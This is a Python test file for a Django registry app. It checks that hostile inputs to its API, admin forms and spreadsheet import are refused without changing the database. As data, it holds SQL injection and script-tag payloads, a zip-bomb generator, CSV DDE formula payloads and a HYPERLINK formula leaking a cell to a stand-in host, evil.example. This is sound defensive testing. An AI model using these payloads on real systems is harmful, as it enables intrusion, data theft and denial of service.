"""Hostile input is refused with a clear 4xx or form error, and changes nothing in the database.

One table (``HOSTILE``) of bad inputs across the three doors into the data: the partner API's query
strings, the admin's add/change forms (posted as the page renders them, with one field spoiled) and
spreadsheet files through the admin's import page. For every row the test takes a snapshot of every
table (row counts and checksums, tests/db_state.py) before and after, and requires them equal.

What is accepted on purpose is tested apart: names with script tags are stored and always escaped;
cells starting with + - or @ are stored and neutralised on export (docs/reliability.md).
"""

import csv
import io
import zipfile
from dataclasses import dataclass, field

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from entrepreneurs.models import Enterprise, Entrepreneur, Financing
from events.models import Event
from incubators.models import Incubator, Residency
from overview.models import ReportedFigure
from overview.stats import stats_refresh
from tests.admin_forms import confirm_import, confirmable, form_data, run_export, run_import_preview
from tests.api.conftest import make_world
from tests.db_state import differences, snapshot
from tests.factories import EntrepreneurFactory, make_credit_code, make_id_card

XLSX_FORMAT, CSV_FORMAT = "0", "1"  # positions in jining.importing.formats.FORMATS
PEOPLE_HEADERS = ["姓名", "性别", "身份证号", "手机号", "户籍县区/旗", "出生年份", "返乡年份", "文化程度"]
KB100 = "x" * 100_000


# --- The kinds of attack ---


@dataclass
class Api:
    """GET (or another method) on the partner API with a partner token. A 200 case is one that must
    match nothing (a range ending before it starts, a code naming nothing): an empty page."""

    url: str
    status: int
    parameter: str | None = None  # the query parameter the JSON body must name in ``errors``
    method: str = "get"
    headers: dict = field(default_factory=dict)  # extra request headers (``HTTP_…``), e.g. another token
    data: dict | None = None  # a JSON body, for write attempts


@dataclass
class AdminForm:
    """POST an admin change form as rendered, with ``changes`` applied; ``errors_on`` must be refused."""

    model: str  # "app_model"
    target: str  # key of the object in the ``hostile_world`` fixture
    changes: dict
    errors_on: str  # a form field name, or "__all__" for an error of the whole form


@dataclass
class Import:
    """Upload a file to the admin's import page (the preview step); it must be refused."""

    content: bytes
    name: str
    file_format: str
    message: str  # a fragment of the (Chinese) message shown
    model: str = "entrepreneurs_entrepreneur"


# --- Files ---


def csv_bytes(rows, encoding="utf-8"):
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode(encoding)


def person_row(name="张三", id_card=""):
    return [name, "男", id_card, "", "集宁区", "1985", "2017", "大专"]


def xlsx_bytes(rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def zip_bomb() -> bytes:
    """A small .xlsx-shaped zip whose sheet expands to 256 MB of XML."""
    content = io.BytesIO()
    chunk = b"<row><c><v>0</v></c></row>" * 40_000  # about 1 MB
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            size = 0
            while size < 256 * 1024 * 1024:
                sheet.write(chunk)
                size += len(chunk)
    return content.getvalue()


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
)
#: Shift-JIS: a half-width katakana then a digit starts a four-byte GB18030 sequence that the comma
#: breaks, so these bytes are neither UTF-8 nor GBK/GB18030 (checked in a test below).
SHIFT_JIS_CSV = "姓名,年齢\nｻﾄｳ1,30\n".encode("shift_jis")


def oversized_csv() -> bytes:
    """A CSV of more than 5 MB (IMPORT_MAX_BYTES)."""
    row = person_row(name="张三" + "长" * 40)
    return csv_bytes([PEOPLE_HEADERS] + [row] * 60_000)


def too_many_rows_csv() -> bytes:
    """10,001 data rows (IMPORT_MAX_ROWS is 10,000), well under the byte limit."""
    return csv_bytes([PEOPLE_HEADERS] + [person_row(name=f"张{i}") for i in range(10_001)])


# --- The table ---

HOSTILE = [
    # (a) API query strings: malformed, oversized, wrong types, injections, oddities
    pytest.param(Api("/api/v1/financing/?amount__gte=-1", 400, "amount__gte"), id="api-negative-amount"),
    pytest.param(Api("/api/v1/financing/?amount__gte=1e999", 400, "amount__gte"), id="api-amount-1e999"),
    pytest.param(Api("/api/v1/financing/?amount=NaN", 400, "amount"), id="api-amount-nan"),
    pytest.param(Api("/api/v1/financing/?date__gte=2019-13-45", 400, "date__gte"), id="api-date-13-45"),
    pytest.param(
        Api("/api/v1/financing/?date__gte=2020-01-01&date__lte=2019-01-01", 200),
        id="api-date-end-before-start",
    ),
    pytest.param(
        Api(
            "/api/v1/residencies/?start_date__gte=2020-01-01&start_date__lte=2019-12-31",
            200,
        ),
        id="api-residency-end-before-start",
    ),
    pytest.param(
        Api("/api/v1/entrepreneurs/?return_year__gte=2019&return_year__lte=2017", 200),
        id="api-year-range-reversed",
    ),
    pytest.param(Api("/api/v1/financing/?date=01/02/2019", 400, "date"), id="api-date-us-format"),
    pytest.param(
        Api("/api/v1/financing/?date__gte=%EF%BC%92%EF%BC%90%EF%BC%91%EF%BC%99-01-01", 400, "date__gte"),
        id="api-date-fullwidth-digits",
    ),
    pytest.param(
        Api("/api/v1/entrepreneurs/?return_year=abc", 400, "return_year"), id="api-year-not-a-number"
    ),
    pytest.param(
        Api("/api/v1/entrepreneurs/?return_year=%D9%A2%D9%A0%D9%A1%D9%A7", 400, "return_year"),
        id="api-year-arabic-indic-digits",
    ),
    pytest.param(Api("/api/v1/entrepreneurs/?return_year=2017.0", 400, "return_year"), id="api-year-float"),
    pytest.param(
        Api("/api/v1/entrepreneurs/?return_year__gte=" + "9" * 40, 400, "return_year__gte"),
        id="api-year-40-digits",
    ),
    pytest.param(Api("/api/v1/events/?on_site=maybe", 400, "on_site"), id="api-boolean-maybe"),
    pytest.param(Api("/api/v1/residencies/?current=yes", 400, "current"), id="api-boolean-yes"),
    pytest.param(Api("/api/v1/events/?kind=not-a-kind", 400, "kind"), id="api-unknown-choice"),
    pytest.param(Api("/api/v1/incubators/?search=a%00b", 400, "search"), id="api-nul-in-search"),
    pytest.param(Api("/api/v1/events/?township=%00", 400, "township"), id="api-nul-in-filter"),
    pytest.param(Api("/api/v1/incubators/?search=" + "a" * 100_000, 414), id="api-100kb-search"),
    pytest.param(
        Api("/api/v1/incubators/?parent=%3Cscript%3Ealert(1)%3C/script%3E", 200),
        id="api-script-tag-as-code",
    ),
    pytest.param(
        Api("/api/v1/incubators/?ordering=%3Cscript%3E", 400, "ordering"), id="api-script-tag-as-ordering"
    ),
    pytest.param(
        Api("/api/v1/financing/?incubator_id=1%20OR%201=1", 400, "incubator_id"), id="api-sql-or-1-eq-1"
    ),
    pytest.param(
        Api("/api/v1/incubators/?ordering=name;DROP%20TABLE%20incubators_incubator", 400, "ordering"),
        id="api-sql-drop-table",
    ),
    pytest.param(
        Api("/api/v1/entrepreneurs/?return_year=2017%27--", 400, "return_year"), id="api-sql-quote-comment"
    ),
    pytest.param(
        Api("/api/v1/incubators/?kind=%EF%BD%8Daker_space", 400, "kind"), id="api-fullwidth-letter-choice"
    ),
    pytest.param(Api("/api/v1/incubators/1%E2%80%AE/", 404), id="api-rtl-override-in-id"),
    pytest.param(Api("/api/v1/incubators/-1/", 404), id="api-negative-id"),
    pytest.param(Api("/api/v1/incubators/?page=-1", 404), id="api-negative-page"),
    pytest.param(Api("/api/v1/incubators/?page=99999999999999999999", 404), id="api-huge-page"),
    pytest.param(Api("/api/v1/incubators/?page=1e3", 404), id="api-page-not-an-integer"),
    pytest.param(
        Api("/api/v1/incubators/", 403, method="post", data={"name": "x"}),
        id="api-write-refused",
    ),
    pytest.param(
        Api("/api/v1/incubators/", 401, headers={"HTTP_AUTHORIZATION": "Token 😀"}), id="api-emoji-token"
    ),
    # (b) admin forms, posted through the real change views
    pytest.param(
        AdminForm("entrepreneurs_financing", "financing", {"amount": "-100.00"}, "__all__"),
        id="admin-negative-money",
    ),
    pytest.param(
        AdminForm("entrepreneurs_financing", "financing", {"amount": "1" * 20}, "amount"),
        id="admin-money-too-many-digits",
    ),
    pytest.param(
        AdminForm("entrepreneurs_financing", "financing", {"term_months": "-3"}, "term_months"),
        id="admin-negative-term",
    ),
    pytest.param(
        AdminForm("entrepreneurs_financing", "financing", {"date": "2019-13-45"}, "date"),
        id="admin-impossible-date",
    ),
    pytest.param(
        AdminForm(
            "incubators_residency",
            "residency",
            {"start_date": "2020-01-01", "end_date": "2019-01-01"},
            "end_date",
        ),
        id="admin-residency-end-before-start",
    ),
    pytest.param(
        AdminForm(
            "events_event", "event", {"start_date": "2020-01-01", "end_date": "2019-01-01"}, "end_date"
        ),
        id="admin-event-end-before-start",
    ),
    pytest.param(
        AdminForm(
            "entrepreneurs_entrepreneur", "person", {"id_card_number": "150902198506150010"}, "id_card_number"
        ),
        id="admin-id-card-checksum",
    ),
    pytest.param(
        AdminForm("entrepreneurs_entrepreneur", "person", {"id_card_number": "twin"}, "__all__"),
        id="admin-duplicate-id-card",
    ),
    pytest.param(
        AdminForm(
            "entrepreneurs_enterprise", "enterprise", {"credit_code": "91150902MA0000001Z"}, "credit_code"
        ),
        id="admin-credit-code-checksum",
    ),
    pytest.param(
        AdminForm("incubators_incubator", "incubator", {"code": "<script>alert(1)</script>"}, "code"),
        id="admin-script-tag-in-code",
    ),
    pytest.param(
        AdminForm("entrepreneurs_entrepreneur", "person", {"name": "张\x00三"}, "name"),
        id="admin-nul-in-name",
    ),
    pytest.param(
        AdminForm("entrepreneurs_entrepreneur", "person", {"name": KB100}, "name"), id="admin-100kb-name"
    ),
    pytest.param(
        AdminForm("entrepreneurs_entrepreneur", "person", {"phone": "12345"}, "phone"), id="admin-bad-phone"
    ),
    pytest.param(
        AdminForm("overview_reportedfigure", "figure", {"unit": "percent", "value": "150"}, "__all__"),
        id="admin-percent-above-100",
    ),
    # (c) import files, through the admin's import page
    pytest.param(
        Import(
            xlsx_bytes([PEOPLE_HEADERS, person_row()])[:-200], "人员.xlsx", XLSX_FORMAT, "不是 Excel 工作簿"
        ),
        id="import-truncated-xlsx",
    ),
    pytest.param(Import(PNG, "人员.xlsx", XLSX_FORMAT, "不是 Excel 工作簿"), id="import-png-named-xlsx"),
    pytest.param(Import(zip_bomb(), "人员.xlsx", XLSX_FORMAT, "解压后"), id="import-xlsx-zip-bomb"),
    pytest.param(Import(oversized_csv(), "人员.csv", CSV_FORMAT, "文件太大"), id="import-oversized-csv"),
    pytest.param(Import(too_many_rows_csv(), "人员.csv", CSV_FORMAT, "10000 行"), id="import-too-many-rows"),
    pytest.param(
        Import("姓名\n张智杰\n".encode("utf-16"), "人员.csv", CSV_FORMAT, "既不是 UTF-8 也不是 GBK"),
        id="import-utf16-with-bom",
    ),
    pytest.param(
        Import(SHIFT_JIS_CSV, "人员.csv", CSV_FORMAT, "既不是 UTF-8 也不是 GBK"), id="import-shift-jis"
    ),
    pytest.param(
        Import(csv_bytes([PEOPLE_HEADERS, person_row(name="张\x00三")]), "人员.csv", CSV_FORMAT, "空字符"),
        id="import-nul-in-csv",
    ),
    pytest.param(
        Import(csv_bytes([PEOPLE_HEADERS, person_row(name=KB100)]), "人员.csv", CSV_FORMAT, "姓名"),
        id="import-100kb-cell",
    ),
    pytest.param(
        Import(
            csv_bytes([PEOPLE_HEADERS, person_row(name='=HYPERLINK("http://evil.example/?"&A1,"点击")')]),
            "人员.csv",
            CSV_FORMAT,
            "公式",
        ),
        id="import-formula-hyperlink",
    ),
    pytest.param(
        Import(
            csv_bytes([PEOPLE_HEADERS, person_row(name="=cmd|' /C calc'!A0")]), "人员.csv", CSV_FORMAT, "公式"
        ),
        id="import-formula-dde",
    ),
    pytest.param(
        Import(
            csv_bytes([PEOPLE_HEADERS, person_row(name="<script>alert(1)</script>", id_card="123")]),
            "人员.csv",
            CSV_FORMAT,
            "身份证",
        ),
        id="import-bad-id-card-row",
    ),
]


# --- Fixtures ---


@pytest.fixture
def hostile_world(db):
    """A world of records, an entrepreneur with an ID-card number to collide with, a figure."""
    world = make_world()
    world["twin"] = EntrepreneurFactory(id_card_number=make_id_card(7))
    world["person"].id_card_number = make_id_card(8)
    world["person"].save()
    world["enterprise"].credit_code = make_credit_code(5)
    world["enterprise"].save()
    world["financing"] = Financing.objects.first()
    world["residency"] = Residency.objects.filter(enterprise__isnull=False).first()
    world["figure"] = ReportedFigure.objects.first()
    return world


# --- Running one attack ---


def attack_api(case: Api, client):
    if "HTTP_AUTHORIZATION" in case.headers:
        client = APIClient()  # the case brings its own (bad) credentials
    call = getattr(client, case.method)
    if case.data is not None:
        response = call(case.url, case.data, format="json", **case.headers)
    else:
        response = call(case.url, **case.headers)
    assert response.status_code == case.status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    if case.status == 200:  # valid values that together match nothing: an empty page
        assert body["results"] == [], body
        return
    assert body["detail"] and body["code"]
    if case.parameter:
        assert case.parameter in body["errors"], body
        assert all(message for message in body["errors"][case.parameter])


def attack_admin(case: AdminForm, client, world):
    obj = world[case.target]
    url = reverse(f"admin:{case.model}_change", args=[obj.pk])
    data = form_data(client.get(url))
    changes = dict(case.changes)
    if changes.get("id_card_number") == "twin":
        changes["id_card_number"] = world["twin"].id_card_number
    data.update(changes)
    response = client.post(url, data)
    assert response.status_code in (200, 403), response.status_code
    if response.status_code == 200:
        form = response.context["adminform"].form
        errors = dict(form.errors)
        assert case.errors_on in errors, errors
        assert all(str(message) for message in errors[case.errors_on])
        assert "errornote" in response.text  # the page says there are errors


def attack_import(case: Import, client):
    response = client.post(
        reverse(f"admin:{case.model}_import"),
        {
            "import_file": SimpleUploadedFile(case.name, case.content),
            "format": case.file_format,
            "resource": "0",
        },
    )
    if response.status_code == 302:  # the file was stored and its preview job ran: its page
        response = client.get(response["Location"])
    assert response.status_code == 200
    assert not confirmable(response)  # nothing can be confirmed
    form = response.context.get("form")
    form_errors = form.errors.get("import_file", []) if form else []
    problems = response.context.get("problems") or []
    shown = " ".join([*form_errors, *problems])
    assert case.message in shown, shown
    assert case.message in response.text or any(case.message in p for p in problems)


@pytest.fixture(autouse=True)
def import_limits(settings):
    """The limits the import cases are built for (smaller than the defaults, to keep files small)."""
    settings.IMPORT_MAX_BYTES = 5 * 1024 * 1024
    settings.IMPORT_MAX_ROWS = 10_000
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 50 * 1024 * 1024


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_input_is_refused_and_changes_nothing(hostile_world, partner_client, staff_client, case):
    before = snapshot()
    if isinstance(case, Api):
        attack_api(case, partner_client)
    elif isinstance(case, AdminForm):
        attack_admin(case, staff_client, hostile_world)
    else:
        attack_import(case, staff_client)
    assert differences(before, snapshot()) == {}


def test_the_table_is_at_least_30_inputs_across_the_three_doors():
    kinds = [type(param.values[0]) for param in HOSTILE]
    assert len(HOSTILE) >= 30
    assert {Api, AdminForm, Import} == set(kinds)


# --- Controls: the same doors accept good input, so the refusals above are about the bad part ---


def test_an_unspoiled_admin_form_saves(hostile_world, staff_client):
    financing = hostile_world["financing"]
    url = reverse("admin:entrepreneurs_financing_change", args=[financing.pk])
    data = form_data(staff_client.get(url))
    data["amount"] = "123456.78"
    response = staff_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    financing.refresh_from_db()
    assert str(financing.amount) == "123456.78"


def test_the_shift_jis_bytes_really_fail_both_decodings():
    for encoding in ("utf-8-sig", "gb18030", "gbk"):
        with pytest.raises(UnicodeDecodeError):
            SHIFT_JIS_CSV.decode(encoding)


def test_the_zip_bomb_is_small_but_expands_to_hundreds_of_mb():
    bomb = zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert sum(member.file_size for member in archive.infolist()) >= 256 * 1024 * 1024


# --- Accepted on purpose, and made harmless ---


def test_script_tags_in_names_are_stored_but_always_escaped(hostile_world, staff_client, partner_client):
    name = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    incubator = hostile_world["incubator"]
    Incubator.objects.filter(pk=incubator.pk).update(name=name)
    Entrepreneur.objects.filter(pk=hostile_world["person"].pk).update(name=name[:50])
    Enterprise.objects.filter(pk=hostile_world["enterprise"].pk).update(name=name)
    Event.objects.filter(pk=hostile_world["event"].pk).update(title=name)
    stats_refresh()  # the dashboard shows the stored series: the incubator's name among them
    pages = [
        reverse("admin:incubators_incubator_changelist"),
        reverse("admin:incubators_incubator_change", args=[incubator.pk]),
        reverse("admin:entrepreneurs_entrepreneur_changelist"),
        reverse("admin:entrepreneurs_enterprise_changelist"),
        reverse("admin:events_event_changelist"),
        reverse("admin:incubators_residency_changelist"),
        reverse("admin:entrepreneurs_financing_changelist"),
        reverse("admin:index"),
    ]
    for page in pages:
        response = staff_client.get(page)
        assert response.status_code == 200, page
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, page
        assert "&lt;script&gt;alert" in html, page
    api = partner_client.get(f"/api/v1/incubators/{incubator.pk}/")
    assert api["Content-Type"].startswith("application/json")
    assert api.json()["name"] == name  # JSON carries the text as it is; clients escape on output
    docs = partner_client.get(f"/api/v1/incubators/{incubator.pk}/", HTTP_ACCEPT="text/html")
    assert "<script>alert" not in docs.content.decode()


def test_formula_like_cells_other_than_equals_are_stored_and_exported_neutralised(
    hostile_world, staff_client
):
    names = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
    rows = [PEOPLE_HEADERS] + [person_row(name=name) for name in names]
    url = reverse("admin:entrepreneurs_entrepreneur_import")
    preview = run_import_preview(
        staff_client,
        url,
        {
            "import_file": SimpleUploadedFile("人员.csv", csv_bytes(rows)),
            "format": CSV_FORMAT,
            "resource": "0",
        },
    )
    assert confirm_import(staff_client, preview).state == "done"
    for name in names:
        assert Entrepreneur.objects.filter(name=name).exists()  # stored exactly as typed
    url = reverse("admin:entrepreneurs_entrepreneur_export")
    form = staff_client.get(url).context["form"]
    data = {"format": CSV_FORMAT, "resource": "0"}
    data |= {
        name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)
    }
    text = run_export(staff_client, url, data).content.decode("utf-8-sig")
    exported = {row[0] for row in csv.reader(io.StringIO(text)) if row}
    for name in names:
        assert "'" + name in exported
        assert name not in exported
